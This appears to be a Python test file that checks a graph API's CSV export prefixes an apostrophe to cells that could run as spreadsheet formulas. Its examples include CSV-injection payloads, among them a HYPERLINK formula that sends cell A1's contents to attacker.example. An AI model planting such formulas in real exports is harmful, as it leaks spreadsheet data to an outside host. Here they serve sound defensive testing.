"""CSV injection: a cell of an exported CSV that a spreadsheet would run as a formula (starting with
``= + - @``, a tab or a carriage return) gets a leading apostrophe; every other cell is written as it is.
Names come from import files and lists other departments maintain, so they are untrusted text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from hypothesis import example, given
from hypothesis import strategies as st

from api.app import create_app
from api.routers.graph import csv_cell
from api.settings import Settings
from graph.store.sqlite import SQLiteStore
from tests.fixtures import admin_client, batch, enterprise, make_id_number, make_uscc, person, role

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@given(st.text(max_size=30))
@example('=HYPERLINK("http://attacker.example","点我")')
@example("+86 519 8888 8888")
@example("-1")
@example("@SUM(A1:A2)")
@example("\t=1+1")
@example("\r=1+1")
@example("'=1+1")
def test_a_cell_never_starts_as_a_formula_and_keeps_its_text(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == ("'" + text if text.startswith(FORMULA_STARTS) else text)


@given(st.lists(st.text(max_size=10), max_size=4))
def test_a_list_cell_is_escaped_as_one_cell(values: list[str]) -> None:
    cell = csv_cell(values)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") == ";".join(values) or cell == ";".join(values)


def test_the_neighbourhood_export_escapes_a_formula_name(tmp_path: Path) -> None:
    firm, holder = make_uscc(41), make_id_number(41)
    evil = '=HYPERLINK("http://attacker.example/?q="&A1,"点我")'
    store = SQLiteStore(tmp_path / "city.db")
    store.write_batch(
        batch(
            enterprises=[enterprise(firm, name=evil)],
            persons=[person(holder, name="@SUM(1,2)")],
            roles=[role(holder, firm, "legal_representative", "2020-01-01")],
        )
    )
    store.close()
    with TestClient(create_app(Settings(db=tmp_path / "city.db", deliver_every_seconds=0))) as client:
        admin_client(client)
        answer = client.get("/v1/graph/neighbourhood.csv", params={"subject": firm, "part": "nodes"})
        assert answer.status_code == 200
        rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    names = {row["code"]: row["name"] for row in rows}
    assert names[firm] == "'" + evil
    assert names[holder].startswith("'@")  # masked or not, the cell is not a formula
